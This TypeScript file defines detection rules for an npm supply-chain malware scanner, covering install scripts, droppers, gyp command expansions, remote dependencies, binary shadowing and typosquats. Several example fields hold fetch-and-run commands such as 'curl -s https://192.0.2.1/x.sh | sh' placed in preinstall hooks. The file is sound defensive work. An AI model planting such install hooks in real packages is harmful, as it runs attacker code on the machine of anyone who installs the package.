import type { RuleMeta } from '../../core/types.js';
import { SMALL_UTILITY } from './purpose.js';

const npm = { analyzer: 'npm-manifest', ecosystems: ['npm'] } as const;

export const INSTALL_SCRIPT: RuleMeta = {
  ...npm,
  id: 'NPM-001',
  name: 'install-script',
  category: 'install-script',
  severity: 'low',
  confidence: 'high',
  description: 'The package runs a lifecycle script (preinstall/install/postinstall/prepare) when installed.',
  rationale:
    "Install scripts run with the user's rights the moment the package is installed, before any code imports it; most npm malware starts here. On its own it is common and benign (native builds).",
  falsePositives: 'Native addons (node-gyp), binary downloaders (esbuild, sharp), husky/patch-package setup.',
  example: '"postinstall": "node setup.js"',
  references: ['https://docs.npmjs.com/cli/v10/using-npm/scripts#life-cycle-scripts'],
};

export const SCRIPT_TECHNIQUE: RuleMeta = {
  ...npm,
  id: 'NPM-002',
  name: 'install-script-technique',
  category: 'dropper',
  severity: 'high',
  confidence: 'high',
  description:
    'A lifecycle script uses a malicious shell idiom: download piped to a shell, /dev/tcp, inline code, base64 decoding, encoded PowerShell, LOLBins, hidden background processes.',
  rationale:
    'These idioms fetch and run code that is not in the package, or hide what runs, at install time where nobody looks.',
  falsePositives:
    '`node -e` one-liners that check the Node version; curl used by legitimate binary installers with checksums.',
  example: '"preinstall": "curl -s https://192.0.2.1/x.sh | sh"',
  references: ['https://blog.phylum.io/tag/npm/', 'https://attack.mitre.org/techniques/T1059/004/'],
};

export const GYP_COMMAND: RuleMeta = {
  ...npm,
  id: 'NPM-003',
  name: 'binding-gyp-command',
  category: 'install-script',
  severity: 'medium',
  confidence: 'medium',
  description: 'binding.gyp runs a shell command through a `<!(...)` / `<!@(...)` expansion during install.',
  rationale:
    'npm runs node-gyp for any package with binding.gyp even without an install script, and gyp executes command expansions: a hidden install hook.',
  falsePositives: 'Native addons that call `node -p "require(\'node-addon-api\').include"` or pkg-config.',
  example: '"libraries": ["<!(curl -s https://192.0.2.1/p | sh)"]',
  references: ['https://gyp.gsrc.io/docs/InputFormatReference.md#command-expansions'],
};

export const REMOTE_DEPENDENCY: RuleMeta = {
  ...npm,
  id: 'NPM-004',
  name: 'remote-dependency',
  category: 'dropper',
  severity: 'medium',
  confidence: 'medium',
  description: 'A dependency is fetched from a URL, git repository or local path instead of the registry.',
  rationale:
    'URL and git dependencies bypass the registry\'s integrity, malware scanning and unpublish protections; attackers use them to pull payloads the registry never saw ("remote dynamic dependencies").',
  falsePositives:
    'Monorepo `file:`/`workspace:` links; forks pinned to a git commit; vendors that publish on their own CDN over HTTPS (SheetJS xlsx), which weigh medium rather than high (raw-IP and plain-HTTP tarballs stay high).',
  example: '"dependencies": { "x": "http://192.0.2.1/x.tgz" }',
  references: ['https://www.koi.ai/blog/phantomraven-npm-malware-hidden-in-invisible-dependencies'],
};

export const BIN_SHADOW: RuleMeta = {
  ...npm,
  id: 'NPM-005',
  name: 'bin-shadows-system-command',
  category: 'backdoor',
  severity: 'high',
  confidence: 'medium',
  description:
    'The package installs an executable named like a common system command (node, npm, git, ls, sudo...).',
  rationale:
    'npm puts `bin` entries on PATH (node_modules/.bin during scripts, globally with -g); a `git` or `npm` shim intercepts credentials and commands.',
  falsePositives:
    'Version managers and wrappers that intentionally provide `node`/`npm` (nvm-like tools, corepack). A package whose unscoped name is itself a system command (`npm` providing `npm` and `npx`) is that tool and is not reported, nor is a package of the scope named after the command (`@pnpm/exe` providing `pnpm`; `@yarnpkg/*` yarn, `@npmcli/*` npm): scopes are owned.',
  example: '"bin": { "git": "./shim.js" }',
  references: ['https://blog.npmjs.org/post/189618601100/binary-planting-with-the-npm-cli'],
};

export const MISSING_INSTALL_FILE: RuleMeta = {
  ...npm,
  id: 'NPM-006',
  name: 'install-script-missing-file',
  category: 'install-script',
  severity: 'medium',
  confidence: 'medium',
  description:
    'An install lifecycle script runs a JavaScript file that the published package does not contain.',
  rationale:
    'npm would fail to install a package whose install script is missing, so honest packages never publish one; attackers do when the payload is deleted after running, fetched later, or the registry already removed it. The script still runs on every install that has the file.',
  falsePositives: 'Broken releases; `prepare` scripts that only run in git checkouts are not flagged.',
  example: '"preinstall": "node index.js" with no index.js in the tarball',
  references: ['https://docs.npmjs.com/cli/v10/using-npm/scripts#life-cycle-scripts'],
};

export const INLINE_SCRIPT_CODE: RuleMeta = {
  ...npm,
  id: 'NPM-007',
  name: 'install-script-inline-code',
  category: 'execution',
  severity: 'info',
  confidence: 'high',
  description:
    'An install script runs inline JavaScript (`node -e "..."`); the code is analysed with the JavaScript rules and their findings point at package.json.',
  rationale:
    'Inline code in package.json is easy to miss in review; droppers put `require("child_process").exec(...)` or an eval of a base64 string there.',
  falsePositives: 'Version checks and `try{require("./postinstall")}catch(e){}` wrappers (informational).',
  example: '"postinstall": "node -e \\"require(\'child_process\').exec(\'curl http://192.0.2.1|sh\')\\""',
  references: ['https://docs.npmjs.com/cli/v10/using-npm/scripts'],
};

export const TYPOSQUAT_INSTALL: RuleMeta = {
  ...npm,
  id: 'NPM-008',
  name: 'typosquat-with-install-script',
  category: 'typosquat',
  severity: 'high',
  confidence: 'medium',
  description:
    "The package's own name imitates a popular package (transposed or swapped letters, affixes, scope tricks) and it runs code at install time.",
  rationale:
    'Typosquats catch mistyped `npm install` commands; the install script then runs on the victim without any import. Legitimate lookalike names rarely need install scripts.',
  falsePositives:
    'Forks and community builds named after the original (e.g. `-cli`/`-js` variants) that compile native code at install.',
  example: '"name": "supports-cloor", "scripts": { "preinstall": "node index.js" }',
  references: ['https://blog.phylum.io/typosquatting-campaign-targets-npm/'],
};

export const NPM_MANIFEST_RULES: RuleMeta[] = [
  SMALL_UTILITY,
  TYPOSQUAT_INSTALL,
  MISSING_INSTALL_FILE,
  INLINE_SCRIPT_CODE,
  INSTALL_SCRIPT,
  SCRIPT_TECHNIQUE,
  GYP_COMMAND,
  REMOTE_DEPENDENCY,
  BIN_SHADOW,
];
